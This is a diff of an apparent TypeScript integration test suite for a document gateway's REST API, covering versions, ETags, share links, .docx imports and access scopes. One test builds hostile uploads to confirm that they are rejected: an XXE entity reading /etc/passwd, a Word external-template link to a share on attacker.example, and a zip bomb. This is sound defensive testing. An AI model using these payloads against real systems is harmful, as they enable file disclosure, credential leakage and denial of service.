@@ -74,7 +74,13 @@ function client(base: string, key: string | null) {
     put: (path: string, body: unknown, headers?: Record<string, string>) => withJson("PUT", path, body, headers),
     patch: (path: string, body: unknown, headers?: Record<string, string>) => withJson("PATCH", path, body, headers),
     del: (path: string, headers: Record<string, string> = {}) => call(path, { method: "DELETE", headers }),
-    form: (method: "POST" | "PUT", path: string, fields: Record<string, string>, file?: { bytes: Uint8Array; name: string }, headers: Record<string, string> = {}) => {
+    form: (
+      method: "POST" | "PUT",
+      path: string,
+      fields: Record<string, string>,
+      file?: { bytes: Uint8Array; name: string },
+      headers: Record<string, string> = {},
+    ) => {
       const form = new FormData();
       for (const [key, value] of Object.entries(fields)) form.set(key, value);
       if (file) form.set("file", new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: DOCX_TYPE }), file.name);
@@ -164,7 +170,7 @@ beforeAll(async () => {
 afterAll(() => tg?.close());
 
 describe("updates, ETags and preconditions", () => {
-  it("PUT markdown → 200, version 2, ETag \"v2\"; a stale If-Match → 412 and nothing written; If-None-Match → 304", async () => {
+  it('PUT markdown → 200, version 2, ETag "v2"; a stale If-Match → 412 and nothing written; If-None-Match → 304', async () => {
     const created = await alice.post("/api/v1/documents", { name: "Plan", markdown: "# One\n\nThe first text.\n" });
     expect(created.status).toBe(201);
     expect(created.headers.get("etag")).toBe('"v1"');
@@ -175,7 +181,14 @@ describe("updates, ETags and preconditions", () => {
     expect(put.status).toBe(200);
     expect(put.headers.get("etag")).toBe('"v2"');
     const updated = (await put.json()) as Record_;
-    expect(updated).toMatchObject({ id: record.id, name: "Plan", version: 2, createdAt: record.createdAt, url: record.url, downloadUrl: record.downloadUrl });
+    expect(updated).toMatchObject({
+      id: record.id,
+      name: "Plan",
+      version: 2,
+      createdAt: record.createdAt,
+      url: record.url,
+      downloadUrl: record.downloadUrl,
+    });
     expect(updated.updatedAt >= record.updatedAt).toBe(true);
     const read = await alice.text(record.id);
     expect(read).toMatchObject({ version: 2, format: "text", text: "Two\n\nThe second text.", truncated: false });
@@ -251,7 +264,13 @@ describe("updates, ETags and preconditions", () => {
     const renamed = await alice.patch(doc(record.id), { name: "  After rename  " }, { "if-match": '"v1"' });
     expect(renamed.status).toBe(200);
     expect(renamed.headers.get("etag")).toBe('"v2"');
-    expect(await renamed.json()).toMatchObject({ id: record.id, name: "After rename", version: 2, sizeBytes: record.sizeBytes, characters: record.characters });
+    expect(await renamed.json()).toMatchObject({
+      id: record.id,
+      name: "After rename",
+      version: 2,
+      sizeBytes: record.sizeBytes,
+      characters: record.characters,
+    });
     same(await alice.bytes(`${doc(record.id)}/content`), before);
     const download = await alice.get(`${doc(record.id)}/content`);
     expect(download.headers.get("content-disposition")).toContain('filename="After rename.docx"');
@@ -266,7 +285,11 @@ describe("updates, ETags and preconditions", () => {
     await errorOf(await alice.patch(doc(record.id), { name: "x", markdown: "# no" }), 400, "BAD_USER_INPUT");
     await errorOf(await alice.patch(doc(record.id), {}), 400, "BAD_USER_INPUT");
     await errorOf(await alice.patch(doc(record.id), { name: "   " }), 400, "BAD_USER_INPUT");
-    await errorOf(await alice.call(doc(record.id), { method: "PATCH", headers: { "content-type": "text/plain" }, body: "name" }), 415, "UNSUPPORTED_MEDIA_TYPE");
+    await errorOf(
+      await alice.call(doc(record.id), { method: "PATCH", headers: { "content-type": "text/plain" }, body: "name" }),
+      415,
+      "UNSUPPORTED_MEDIA_TYPE",
+    );
     await errorOf(await alice.put(doc(record.id), {}), 400, "BAD_USER_INPUT");
     await errorOf(await alice.put(doc(record.id), { markdown: "a".repeat(400_001) }), 413, "PAYLOAD_TOO_LARGE");
     expect((await alice.text(record.id)).version).toBe(2);
@@ -308,7 +331,14 @@ describe("versions", () => {
 
     const v1 = await alice.get(`${doc(record.id)}/versions/1`);
     expect(v1.status).toBe(200);
-    expect(await v1.json()).toMatchObject({ id: record.id, name: "History", version: 1, format: "text", text: "First\n\nOne.", truncated: false });
+    expect(await v1.json()).toMatchObject({
+      id: record.id,
+      name: "History",
+      version: 1,
+      format: "text",
+      text: "First\n\nOne.",
+      truncated: false,
+    });
     expect((await alice.text(record.id, "/versions/2?format=markdown")).text).toBe("# Second\n\nTwo.");
     expect((await alice.text(record.id, "/versions/4")).text).toBe("Fourth\n\nFour.");
     expect((await alice.text(record.id, "/versions/1?maxChars=3")).text).toBe("Fir");
@@ -320,11 +350,19 @@ describe("versions", () => {
     for (const missing of ["5", "99", "0"]) {
       const status = missing === "0" ? 400 : 404;
       await errorOf(await alice.get(`${doc(record.id)}/versions/${missing}`), status, status === 400 ? "BAD_USER_INPUT" : "NOT_FOUND");
-      await errorOf(await alice.get(`${doc(record.id)}/versions/${missing}/content`), status, status === 400 ? "BAD_USER_INPUT" : "NOT_FOUND");
+      await errorOf(
+        await alice.get(`${doc(record.id)}/versions/${missing}/content`),
+        status,
+        status === 400 ? "BAD_USER_INPUT" : "NOT_FOUND",
+      );
     }
     await errorOf(await alice.get(`${doc(record.id)}/versions/abc`), 400, "BAD_USER_INPUT");
 
-    await errorOf(await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v3"' } }), 412, "PRECONDITION_FAILED");
+    await errorOf(
+      await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v3"' } }),
+      412,
+      "PRECONDITION_FAILED",
+    );
     const restored = await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v4"' } });
     expect(restored.status).toBe(200);
     expect(restored.headers.get("etag")).toBe('"v5"');
@@ -453,7 +491,11 @@ describe("share links", () => {
     await alice.put(doc(record.id), { markdown: "Updated for everyone." });
     expect((await (await anonymous.get(share.url)).json()) as ReadBody).toMatchObject({ version: 2, text: "Updated for everyone." });
 
-    const second = (await (await alice.post(`${doc(record.id)}/shares`, { expiresInSeconds: 60 })).json()) as { id: string; createdAt: string; expiresAt: string };
+    const second = (await (await alice.post(`${doc(record.id)}/shares`, { expiresInSeconds: 60 })).json()) as {
+      id: string;
+      createdAt: string;
+      expiresAt: string;
+    };
     expect(Date.parse(second.expiresAt) - Date.parse(second.createdAt)).toBe(60_000);
     const list = await alice.get(`${doc(record.id)}/shares`);
     expect(list.status).toBe(200);
@@ -472,7 +514,9 @@ describe("share links", () => {
     await errorOf(await anonymous.get(share.url), 404, "NOT_FOUND");
     await errorOf(await anonymous.get(`${share.url}/content`), 404, "NOT_FOUND");
     await errorOf(await alice.del(`${doc(record.id)}/shares/${share.id}`), 404, "NOT_FOUND");
-    expect(((await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: { id: string }[] }).shares.map((s) => s.id)).toEqual([second.id]);
+    expect(((await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: { id: string }[] }).shares.map((s) => s.id)).toEqual([
+      second.id,
+    ]);
 
     // Tokens that were never issued, or not even shaped like one.
     await errorOf(await anonymous.get(`/api/v1/shared/wgs_${randomBytes(32).toString("base64url")}`), 404, "NOT_FOUND");
@@ -559,18 +603,30 @@ describe("imports and .docx replacements", () => {
     expect(((await unnamed.json()) as Record_).name).toBe("Quarterly review");
 
     // Idempotency-Key works for imports too.
-    const keyed = () => alice.form("POST", "/api/v1/documents", { name: "Once" }, { bytes: exported, name: "once.docx" }, { "idempotency-key": "import-once" });
+    const keyed = () =>
+      alice.form(
+        "POST",
+        "/api/v1/documents",
+        { name: "Once" },
+        { bytes: exported, name: "once.docx" },
+        { "idempotency-key": "import-once" },
+      );
     const first = (await (await keyed()).json()) as Record_;
     const again = await keyed();
     expect(again.headers.get("idempotent-replayed")).toBe("true");
     expect(((await again.json()) as Record_).id).toBe(first.id);
 
     await errorOf(await alice.form("POST", "/api/v1/documents", { name: "No file" }), 400, "BAD_USER_INPUT");
-    await errorOf(await alice.form("POST", "/api/v1/documents", { name: "x", extra: "y" }, { bytes: exported, name: "x.docx" }), 400, "BAD_USER_INPUT");
+    await errorOf(
+      await alice.form("POST", "/api/v1/documents", { name: "x", extra: "y" }, { bytes: exported, name: "x.docx" }),
+      400,
+      "BAD_USER_INPUT",
+    );
   });
 
   it.skipIf(!pandoc)("a .docx written by pandoc: imported, its text read back", async () => {
-    const markdown = "# Release notes\n\nVersion **2.1** fixes parsing.\n\n- Faster search\n- New export\n\n| Area | Owner |\n|------|-------|\n| API | Ana |\n";
+    const markdown =
+      "# Release notes\n\nVersion **2.1** fixes parsing.\n\n- Faster search\n- New export\n\n| Area | Owner |\n|------|-------|\n| API | Ana |\n";
     await writeFile(join(dir, "notes.md"), markdown);
     await run(pandoc!, ["-f", "markdown", "-t", "docx", "-o", join(dir, "notes.docx"), join(dir, "notes.md")], { timeout: 60_000 });
     const bytes = new Uint8Array(await readFile(join(dir, "notes.docx")));
@@ -598,7 +654,15 @@ describe("imports and .docx replacements", () => {
       await writeFile(join(dir, "minutes.html"), html);
       await run(
         soffice!,
-        [`-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`, "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir", dir, join(dir, "minutes.html")],
+        [
+          `-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`,
+          "--headless",
+          "--convert-to",
+          "docx:MS Word 2007 XML",
+          "--outdir",
+          dir,
+          join(dir, "minutes.html"),
+        ],
         { timeout: 120_000 },
       );
       const bytes = new Uint8Array(await readFile(join(dir, "minutes.docx")));
@@ -629,65 +693,73 @@ describe("imports and .docx replacements", () => {
     const versions = (await (await alice.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
     expect(versions.versions[0]).toMatchObject({ version: 2, source: "docx", name: "Replaced" });
 
-    const stale = await alice.form("PUT", doc(record.id), {}, { bytes: await renderedDocx("# Lost\n"), name: "lost.docx" }, { "if-match": '"v1"' });
+    const stale = await alice.form(
+      "PUT",
+      doc(record.id),
+      {},
+      { bytes: await renderedDocx("# Lost\n"), name: "lost.docx" },
+      { "if-match": '"v1"' },
+    );
     await errorOf(stale, 412, "PRECONDITION_FAILED");
     expect(await alice.text(record.id)).toMatchObject({ version: 2, text: "New content\n\nFrom a file." });
-    await errorOf(await alice.form("PUT", doc(record.id), { markdown: "# no" }, { bytes: replacement, name: "x.docx" }), 400, "BAD_USER_INPUT");
+    await errorOf(
+      await alice.form("PUT", doc(record.id), { markdown: "# no" }, { bytes: replacement, name: "x.docx" }),
+      400,
+      "BAD_USER_INPUT",
+    );
   });
 
-  it(
-    "hostile uploads → 415 / 413 with nothing stored: not a zip, not a Word package, a zip bomb, too many entries, a DTD, an external template, over 25 MB",
-    async () => {
-      const owner = client(tg.url, await tg.key({ user: "hostile-uploader" }));
-      const target = await owner.create("Target", "# Keep me\n");
-      const listBefore = await owner.ids();
-      const good = await renderedDocx();
-      const manyEntries: Zippable = {};
-      for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) manyEntries[`word/media/${i}.bin`] = new Uint8Array(0);
-      const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+  it("hostile uploads → 415 / 413 with nothing stored: not a zip, not a Word package, a zip bomb, too many entries, a DTD, an external template, over 25 MB", async () => {
+    const owner = client(tg.url, await tg.key({ user: "hostile-uploader" }));
+    const target = await owner.create("Target", "# Keep me\n");
+    const listBefore = await owner.ids();
+    const good = await renderedDocx();
+    const manyEntries: Zippable = {};
+    for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) manyEntries[`word/media/${i}.bin`] = new Uint8Array(0);
+    const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\\\attacker.example\\share\\template.dotm" TargetMode="External"/></Relationships>`;
-      const cases: [string, Uint8Array, number, string][] = [
-        ["not a zip", strToU8("%PDF-1.7 certainly not a word document"), 415, "UNSUPPORTED_MEDIA_TYPE"],
-        ["a zip that is no Word package", zipSync({ "notes.txt": strToU8("hello") }), 415, "UNSUPPORTED_MEDIA_TYPE"],
-        ["a zip bomb", zeroBomb(DOCX_EXPANDED_LIMIT_BYTES / (1024 * 1024) + 1), 413, "PAYLOAD_TOO_LARGE"],
-        ["too many entries", zipSync(manyEntries), 413, "PAYLOAD_TOO_LARGE"],
-        [
-          "a DTD",
-          rewrite(good, { "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }),
-          415,
-          "UNSUPPORTED_MEDIA_TYPE",
-        ],
-        ["an external template", rewrite(good, { "word/_rels/settings.xml.rels": settingsRels }), 415, "UNSUPPORTED_MEDIA_TYPE"],
-        ["over 25 MB", new Uint8Array(25 * 1024 * 1024 + 1), 413, "PAYLOAD_TOO_LARGE"],
-      ];
-      // The gateway spools uploads under TMPDIR: a directory of this test's own, to see that nothing is left.
-      const spoolDir = await mkdtemp(join(tmpdir(), "wg-rest-spool-"));
-      const savedTmpdir = process.env["TMPDIR"];
-      process.env["TMPDIR"] = spoolDir;
-      try {
-        for (const [what, bytes, status, code] of cases) {
-          const imported = await owner.form("POST", "/api/v1/documents", { name: what }, { bytes, name: "hostile.docx" });
-          expect({ what, status: imported.status }).toEqual({ what, status });
-          await errorOf(imported, status, code);
-          // The bomb costs the server 200 MB of inflating per try; the replace path shares the check, once is enough.
-          if (what === "a zip bomb") continue;
-          const replaced = await owner.form("PUT", doc(target.id), {}, { bytes, name: "hostile.docx" });
-          expect({ what, status: replaced.status }).toEqual({ what, status });
-          await errorOf(replaced, status, code);
-        }
-        expect((await readdir(spoolDir)).filter((name) => name.startsWith(TEMP_PREFIX))).toEqual([]);
-      } finally {
-        if (savedTmpdir === undefined) delete process.env["TMPDIR"];
-        else process.env["TMPDIR"] = savedTmpdir;
-        await rm(spoolDir, { recursive: true, force: true });
+    const cases: [string, Uint8Array, number, string][] = [
+      ["not a zip", strToU8("%PDF-1.7 certainly not a word document"), 415, "UNSUPPORTED_MEDIA_TYPE"],
+      ["a zip that is no Word package", zipSync({ "notes.txt": strToU8("hello") }), 415, "UNSUPPORTED_MEDIA_TYPE"],
+      ["a zip bomb", zeroBomb(DOCX_EXPANDED_LIMIT_BYTES / (1024 * 1024) + 1), 413, "PAYLOAD_TOO_LARGE"],
+      ["too many entries", zipSync(manyEntries), 413, "PAYLOAD_TOO_LARGE"],
+      [
+        "a DTD",
+        rewrite(good, {
+          "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+        }),
+        415,
+        "UNSUPPORTED_MEDIA_TYPE",
+      ],
+      ["an external template", rewrite(good, { "word/_rels/settings.xml.rels": settingsRels }), 415, "UNSUPPORTED_MEDIA_TYPE"],
+      ["over 25 MB", new Uint8Array(25 * 1024 * 1024 + 1), 413, "PAYLOAD_TOO_LARGE"],
+    ];
+    // The gateway spools uploads under TMPDIR: a directory of this test's own, to see that nothing is left.
+    const spoolDir = await mkdtemp(join(tmpdir(), "wg-rest-spool-"));
+    const savedTmpdir = process.env["TMPDIR"];
+    process.env["TMPDIR"] = spoolDir;
+    try {
+      for (const [what, bytes, status, code] of cases) {
+        const imported = await owner.form("POST", "/api/v1/documents", { name: what }, { bytes, name: "hostile.docx" });
+        expect({ what, status: imported.status }).toEqual({ what, status });
+        await errorOf(imported, status, code);
+        // The bomb costs the server 200 MB of inflating per try; the replace path shares the check, once is enough.
+        if (what === "a zip bomb") continue;
+        const replaced = await owner.form("PUT", doc(target.id), {}, { bytes, name: "hostile.docx" });
+        expect({ what, status: replaced.status }).toEqual({ what, status });
+        await errorOf(replaced, status, code);
       }
-      expect(await owner.ids()).toEqual(listBefore);
-      expect(await owner.text(target.id)).toMatchObject({ version: 1, text: "Keep me" });
-      const trash = (await (await owner.get("/api/v1/trash")).json()) as { documents: unknown[] };
-      expect(trash.documents).toEqual([]);
-    },
-    60_000,
-  );
+      expect((await readdir(spoolDir)).filter((name) => name.startsWith(TEMP_PREFIX))).toEqual([]);
+    } finally {
+      if (savedTmpdir === undefined) delete process.env["TMPDIR"];
+      else process.env["TMPDIR"] = savedTmpdir;
+      await rm(spoolDir, { recursive: true, force: true });
+    }
+    expect(await owner.ids()).toEqual(listBefore);
+    expect(await owner.text(target.id)).toMatchObject({ version: 1, text: "Keep me" });
+    const trash = (await (await owner.get("/api/v1/trash")).json()) as { documents: unknown[] };
+    expect(trash.documents).toEqual([]);
+  }, 60_000);
 });
 
 describe("scopes and other users", () => {
@@ -725,7 +797,13 @@ describe("scopes and other users", () => {
 
     for (const scopes of [["docs:write"], []]) {
       const blind = client(tg.url, await tg.key({ user: "alice", scopes }));
-      for (const path of [`${doc(record.id)}/versions`, `${doc(record.id)}/versions/1`, `${doc(record.id)}/versions/1/content`, `${doc(record.id)}/shares`, "/api/v1/trash"]) {
+      for (const path of [
+        `${doc(record.id)}/versions`,
+        `${doc(record.id)}/versions/1`,
+        `${doc(record.id)}/versions/1/content`,
+        `${doc(record.id)}/shares`,
+        "/api/v1/trash",
+      ]) {
         const response = await blind.get(path);
         expect({ path, scopes, status: response.status }).toEqual({ path, scopes, status: 403 });
         expect(response.headers.get("www-authenticate")).toContain('scope="docs:read"');
@@ -742,7 +820,9 @@ describe("scopes and other users", () => {
     }
     // Nothing changed.
     expect(await alice.text(record.id)).toMatchObject({ version: 1, name: "Scoped" });
-    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(trashed.id);
+    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(
+      trashed.id,
+    );
   });
 
   it("another user's document ids → 404 on every new route, and nothing changes", async () => {
@@ -783,7 +863,9 @@ describe("scopes and other users", () => {
     expect(await alice.text(record.id)).toMatchObject({ version: 2, name: "Alice's", text: "Private v2" });
     expect((await anonymous.get(share.url)).status).toBe(200);
     expect(((await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: unknown[] }).shares).toHaveLength(1);
-    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(trashed.id);
+    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(
+      trashed.id,
+    );
   });
 });
 
@@ -816,7 +898,9 @@ describe("methods", () => {
 describe("OpenAPI and the routes agree", () => {
   it("every path's documented methods are what its 405 allows (HEAD aside)", async () => {
     const openapi = (await (await fetch(`${tg.url}/api/v1/openapi.json`)).json()) as { paths: Record<string, Record<string, unknown>> };
-    const living = Object.keys(openapi.paths).filter((path) => /\/(versions|shares|shared|trash)|^\/api\/v1\/documents\/\{id\}$/.test(path));
+    const living = Object.keys(openapi.paths).filter((path) =>
+      /\/(versions|shares|shared|trash)|^\/api\/v1\/documents\/\{id\}$/.test(path),
+    );
     expect(living.length).toBeGreaterThanOrEqual(11);
     for (const path of living) {
       const concrete = path
@@ -826,8 +910,13 @@ describe("OpenAPI and the routes agree", () => {
         .replace("{token}", "wgs_x");
       const response = await alice.call(concrete, { method: "OPTIONS" });
       expect(response.status).toBe(405);
-      const allowed = (response.headers.get("allow") ?? "").split(", ").filter((m) => m !== "HEAD").sort();
-      const documented = Object.keys(openapi.paths[path]!).map((m) => m.toUpperCase()).sort();
+      const allowed = (response.headers.get("allow") ?? "")
+        .split(", ")
+        .filter((m) => m !== "HEAD")
+        .sort();
+      const documented = Object.keys(openapi.paths[path]!)
+        .map((m) => m.toUpperCase())
+        .sort();
       expect({ path, allowed }).toEqual({ path, allowed: documented });
     }
   });
@@ -835,7 +924,14 @@ describe("OpenAPI and the routes agree", () => {
 
 /** A gateway on `dataDir` (and `env`) that can be stopped without removing it (the helper's close() does). */
 async function startOn(dataDir: string, env: Record<string, string> = {}) {
-  const config = loadConfig({ DATA_DIR: dataDir, PORT: "0", LOG_LEVEL: "silent", RATE_LIMIT_PER_MINUTE: "0", AUTH_FAILURES_PER_MINUTE: "0", ...env });
+  const config = loadConfig({
+    DATA_DIR: dataDir,
+    PORT: "0",
+    LOG_LEVEL: "silent",
+    RATE_LIMIT_PER_MINUTE: "0",
+    AUTH_FAILURES_PER_MINUTE: "0",
+    ...env,
+  });
   const gateway = await createGateway(config);
   const running = await listen(gateway, { port: 0, host: "127.0.0.1", shutdownTimeoutMs: 2_000 });
   return { url: running.url, gateway, stop: () => running.stop() };
@@ -873,7 +969,12 @@ describe("PostgreSQL store behind the gateway", () => {
     try {
       let running = await startOn(dataDir, { DATABASE_URL: databaseUrl });
       expect(running.gateway.store.kind).toBe("postgres");
-      const { key } = await createApiKey(running.gateway.store, { userId: "dave", tenant: null, scopes: ["docs:read", "docs:write"], expiresInMs: null });
+      const { key } = await createApiKey(running.gateway.store, {
+        userId: "dave",
+        tenant: null,
+        scopes: ["docs:read", "docs:write"],
+        expiresInMs: null,
+      });
       let dave = client(running.url, key);
       const record = await dave.create("PG race", "# Start\n");
       for (let round = 1; round <= 3; round++) {
@@ -907,7 +1008,11 @@ describe("PostgreSQL store behind the gateway", () => {
         expect((await dave.del(doc(binned.id))).status).toBe(204);
         expect((await dave.del(`/api/v1/trash/${binned.id}`)).status).toBe(204);
         await errorOf(await dave.call(`/api/v1/trash/${binned.id}/restore`, { method: "POST" }), 404, "NOT_FOUND");
-        expect((await dave.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v4"' } })).headers.get("etag")).toBe('"v5"');
+        expect(
+          (await dave.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v4"' } })).headers.get(
+            "etag",
+          ),
+        ).toBe('"v5"');
         same(await dave.bytes(`${doc(record.id)}/content`), v1);
       } finally {
         await running.stop();
@@ -947,7 +1052,11 @@ describe.each([
       const good = await renderedDocx("# Title\n\nHello world.\n");
       for (const nul of ["&#0;", "\u0000"]) {
         const bad = rewrite(good, { "word/document.xml": (xml) => xml.replace("Hello world.", `Hello${nul}world.`) });
-        await errorOf(await owner.form("POST", "/api/v1/documents", { name: "Nul import" }, { bytes: bad, name: "nul.docx" }), 415, "UNSUPPORTED_MEDIA_TYPE");
+        await errorOf(
+          await owner.form("POST", "/api/v1/documents", { name: "Nul import" }, { bytes: bad, name: "nul.docx" }),
+          415,
+          "UNSUPPORTED_MEDIA_TYPE",
+        );
         await errorOf(await owner.form("PUT", doc(record.id), {}, { bytes: bad, name: "nul.docx" }), 415, "UNSUPPORTED_MEDIA_TYPE");
       }
       expect(await owner.ids()).toEqual([record.id]);
@@ -965,7 +1074,12 @@ describe("a restart on the same DATA_DIR", () => {
     const dataDir = await mkdtemp(join(tmpdir(), "wg-restart-"));
     try {
       let running = await startOn(dataDir);
-      const { key } = await createApiKey(running.gateway.store, { userId: "carol", tenant: null, scopes: ["docs:read", "docs:write"], expiresInMs: null });
+      const { key } = await createApiKey(running.gateway.store, {
+        userId: "carol",
+        tenant: null,
+        scopes: ["docs:read", "docs:write"],
+        expiresInMs: null,
+      });
       let carol = client(running.url, key);
       const kept = await carol.create("Kept", "# One\n");
       await carol.put(doc(kept.id), { markdown: "# Two\n" });
